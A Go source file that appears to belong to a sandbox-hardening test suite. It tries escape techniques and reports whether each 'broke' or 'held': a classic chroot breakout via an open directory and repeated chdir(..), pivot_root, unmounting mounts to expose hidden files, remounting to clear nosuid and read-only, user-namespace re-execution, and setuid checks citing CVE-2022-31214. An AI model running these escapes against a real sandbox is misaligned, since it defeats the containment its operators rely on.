package main

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"

	"golang.org/x/sys/unix"
)

// mountOld mounts by mount(2) what its argument says, in the working directory.
func mountOld(args []string) {
	must(os.MkdirAll("mountpoint", 0o755))
	here, err := filepath.Abs("mountpoint")
	must(err)
	switch args[0] {
	case "bind":
		judge("bind", unix.Mount("/", here, "", unix.MS_BIND|unix.MS_REC, ""))
	case "overlay":
		for _, dir := range []string{"upper", "work"} {
			must(os.MkdirAll(dir, 0o755))
		}
		judge("overlay", unix.Mount("overlay", here, "overlay", 0, "lowerdir=/usr,upperdir=upper,workdir=work,userxattr"))
	case "move":
		judge("move", unix.Mount("/tmp", here, "", unix.MS_MOVE, ""))
	case "shared":
		judge("propagation", unix.Mount("", "/", "", unix.MS_SHARED|unix.MS_REC, ""))
	default: // a file system's name
		judge(args[0], unix.Mount("none", here, args[0], 0, ""))
	}
}

// mountNew mounts by the calls that came later, which old filters did not know.
func mountNew(args []string) {
	switch args[0] {
	case "fsopen":
		_, err := unix.Fsopen("tmpfs", 0)
		judge("fsopen", err)
	case "open_tree":
		_, err := unix.OpenTree(unix.AT_FDCWD, "/", unix.OPEN_TREE_CLONE|unix.AT_RECURSIVE)
		judge("open_tree", err)
	case "fspick":
		_, err := unix.Fspick(unix.AT_FDCWD, "/", 0)
		judge("fspick", err)
	case "move_mount":
		judge("move_mount", unix.MoveMount(unix.AT_FDCWD, "/tmp", unix.AT_FDCWD, "/", 0))
	}
}

// umount takes off each mount that there is, and looks for what was below: the
// first file, which may not be seen anyway, and those others that were covered.
func umount(args []string) {
	below := args[:1]
	for _, path := range args[1:] {
		if b, err := head(path); err != nil || len(b) == 0 {
			below = append(below, path)
		}
	}
	b, err := os.ReadFile("/proc/self/mountinfo")
	must(err)
	lines := strings.Split(strings.TrimSpace(string(b)), "\n")
	for i := len(lines) - 1; i >= 0; i-- {
		fields := strings.Fields(lines[i])
		// The root and /proc are left: without them nothing can be said.
		if len(fields) < 5 || fields[4] == "/" || fields[4] == "/proc" {
			continue
		}
		if err := unix.Unmount(fields[4], unix.MNT_DETACH|unix.UMOUNT_NOFOLLOW); err == nil {
			broke("%s is off", fields[4])
		}
	}
	visible(below)
	held("none of %d comes off", len(lines))
}

// visible ends with broke when one of the files can be read.
func visible(paths []string) {
	for _, path := range paths {
		if b, err := head(path); err == nil && len(b) > 0 {
			broke("%s is there: %.20q", path, b)
		}
	}
}

// remount makes mounts writable, and setuid programs valid.
func remount(args []string) {
	var last error
	for _, path := range args {
		for _, flags := range []uintptr{unix.MS_BIND | unix.MS_REMOUNT, unix.MS_REMOUNT, unix.MS_BIND | unix.MS_REMOUNT | unix.MS_NODEV} {
			if last = unix.Mount("", path, "", flags, ""); last == nil {
				broke("%s remounted", path)
			}
		}
	}
	held("%v", last)
}

func setattr(args []string) {
	var last error
	for _, path := range args {
		for _, flags := range []uint{0, unix.AT_RECURSIVE} {
			last = unix.MountSetattr(unix.AT_FDCWD, path, flags, &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY | unix.MOUNT_ATTR_NOSUID})
			if last == nil {
				broke("%s changed", path)
			}
		}
	}
	held("%v", last)
}

// pivot makes the project the root, so that the old one is below it.
func pivot([]string) {
	must(os.MkdirAll("newroot/old", 0o755))
	// It must be a mount; where none can be made, the plain directory is tried.
	_ = unix.Mount("newroot", "newroot", "", unix.MS_BIND, "")
	err := unix.PivotRoot("newroot", "newroot/old")
	if err == syscall.EINVAL { // not a mount point: looked at after the permission
		broke("pivot_root was reached: %v", err)
	}
	judge("pivot_root", err)
}

// chrootBreak keeps a directory open, changes the root below it, and climbs up
// from where no root stops it.
func chrootBreak(args []string) {
	must(os.MkdirAll("jail", 0o755))
	top, err := unix.Open(".", unix.O_RDONLY|unix.O_DIRECTORY, 0)
	must(err)
	if err := unix.Chroot("jail"); err != nil {
		held("%v", err)
	}
	must(unix.Fchdir(top))
	for range 100 {
		if unix.Chdir("..") != nil {
			break
		}
	}
	_ = unix.Chroot(".")
	visible(args)
	held("the way up ends at the sandbox's own root")
}

// peel makes a user and a mount namespace, where it may unmount, and looks below
// what hides the host.
func peel(args []string) {
	inside("umount", args)
}

// inUserns runs another attack with all rights of a namespace of its own.
func inUserns(args []string) {
	inside(args[0], args[1:])
}

// freshProc mounts a /proc that nothing covers.
func freshProc(args []string) {
	if len(args) == 1 {
		must(os.MkdirAll("proc", 0o755))
		if err := unix.Mount("proc", "proc", "proc", 0, ""); err != nil {
			held("%v", err)
		}
		visible([]string{"proc/keys", "proc/timer_list", "proc/interrupts"})
		held("it is empty too")
	}
	inside("fresh-proc", []string{"now"})
}

// inside runs this program again in new namespaces, as root there, with open files.
func inside(attack string, args []string, files ...*os.File) {
	cmd := exec.Command("/proc/self/exe", append([]string{attack}, args...)...)
	cmd.SysProcAttr = &syscall.SysProcAttr{
		Cloneflags:  syscall.CLONE_NEWUSER | syscall.CLONE_NEWNS | syscall.CLONE_NEWPID,
		UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getuid(), Size: 1}},
		GidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getgid(), Size: 1}},
	}
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr, cmd.ExtraFiles = &out, &out, files
	err := cmd.Run()
	if exit, ok := err.(*exec.ExitError); ok && exit.ExitCode() >= 0 {
		fmt.Print(out.String())
		os.Exit(exit.ExitCode())
	}
	if err != nil {
		held("no namespaces: %v", err)
	}
	fmt.Print(out.String())
	os.Exit(0)
}

// nosuid looks for what a setuid program would need, here or in a namespace that
// somebody joins (CVE-2022-31214).
func nosuid([]string) {
	b, err := os.ReadFile("/proc/self/mountinfo")
	must(err)
	var valid []string
	for _, line := range strings.Split(strings.TrimSpace(string(b)), "\n") {
		if fields := strings.Fields(line); !strings.Contains(","+fields[5]+",", ",nosuid,") {
			valid = append(valid, fields[4])
		}
	}
	status, err := filepath.Glob("/proc/[0-9]*/status")
	must(err)
	for _, path := range status {
		if b, err := os.ReadFile(path); err == nil && !bytes.Contains(b, []byte("NoNewPrivs:\t1")) {
			broke("%s may gain privileges, and %d mounts let it", path, len(valid))
		}
	}
	held("%d processes, and none can gain", len(status))
}

// procfs tells the kernel's own /proc from what somebody else put there, to be
// written to in its place.
func procfs(paths []string) {
	for _, path := range paths {
		var st unix.Statfs_t
		if err := unix.Statfs(path, &st); err != nil || st.Type != unix.PROC_SUPER_MAGIC {
			broke("%s is no procfs: %x, %v", path, st.Type, err)
		}
	}
	held("procfs")
}

// renameAway renames a file, FROM TO, in a namespace where nothing is mounted on its name:
// with the old root all mounts are left behind, and the directory is still open.
func renameAway(args []string) {
	dir, err := os.Open(".")
	must(err)
	if args[0] != "now" {
		inside("rename-away", append([]string{"now"}, args...), dir)
	}
	const opened = 3
	must(unix.Mount("", "/", "", unix.MS_PRIVATE|unix.MS_REC, ""))
	must(unix.Mount("tmpfs", "/tmp", "tmpfs", 0, ""))
	must(os.Chdir("/tmp"))
	must(unix.PivotRoot(".", "."))
	must(unix.Unmount(".", unix.MNT_DETACH))
	if err := unix.Renameat(opened, args[1], opened, args[2]); err != nil {
		held("rename: %v", err)
	}
	fmt.Printf("TRIED: renamed %s to %s\n", args[1], args[2])
	os.Exit(0)
}
